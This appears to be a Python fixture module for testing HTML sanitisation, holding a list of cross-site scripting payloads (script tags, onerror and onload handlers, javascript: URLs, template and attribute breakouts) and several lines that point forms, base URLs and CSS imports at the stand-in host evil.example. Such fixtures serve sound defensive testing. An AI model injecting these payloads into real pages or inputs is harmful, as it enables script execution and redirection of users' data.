"""Texts that a page would run, load or show as something else if it took them for HTML."""

from __future__ import annotations

__all__ = ["MARKUP", "OWNED", "SMUGGLED"]

OWNED = "window.owned"
"""The variable that each of the texts sets if it is run."""

SMUGGLED = (
    ":is(script:not([src]), img[src=x], svg[onload], iframe, object, embed, base, form[action])"
)
"""Elements that one of the texts would make."""

MARKUP = (
    "<img src=x onerror=window.owned=1>",
    "<script>window.owned=1</script>",
    "</title></textarea><script>window.owned=1//",
    '"><svg/onload=window.owned=1>',
    "'><svg onload='window.owned=1'>",
    "javascript:window.owned=1//",
    'https://x/"onmouseover=window.owned=1//',
    "<a href=javascript:window.owned=1>x</a>",
    "<iframe srcdoc='<script>top.owned=1</script>'>",
    "<object data=javascript:window.owned=1>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input autofocus>",
    "<style>@import'//evil.example'</style>",
    "#fff;background:url(//evil.example)",
    "{{[].at.constructor('owned=1')()}}",
    "${window.owned=1}`",
    "';window.owned=1;//",
    "--><!--<script>window.owned=1</script>",
    "&lt;b&gt;bold&lt;/b&gt;",
    "\u05e9\u05dc\u05d5\u05dd backwards <i>",
    "__proto__",
)
"""The texts; names are cut to the 40 letters that they may have."""
